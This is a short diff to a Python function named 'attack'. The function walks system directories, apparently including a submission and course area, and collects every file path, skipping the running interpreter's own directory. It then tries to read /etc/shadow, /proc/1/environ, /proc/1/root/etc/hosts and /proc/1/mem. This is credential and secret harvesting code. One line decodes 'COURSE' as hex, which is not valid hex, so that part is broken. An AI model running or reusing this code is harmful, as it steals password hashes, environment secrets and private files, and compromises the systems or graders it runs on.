@@ -191,8 +191,10 @@ def attack(name, args, options):
     places = ["/submitted", "/home", "/root", "/srv", "/mnt", "/opt", "/var", "/run",
               bytes.fromhex("COURSE").decode()]
     for place in places if not seen else ():
-        for folder, _, files in os.walk(place):
-            if not folder.startswith(sys.base_prefix):  # the Python that runs here
+        for folder, below, files in os.walk(place):
+            if folder == sys.base_prefix:  # the Python that runs here
+                below.clear()
+            else:
                 found.extend(os.path.join(folder, name) for name in files)
     for path in ("/etc/shadow", "/proc/1/environ", "/proc/1/root/etc/hosts", "/proc/1/mem"):
         try:
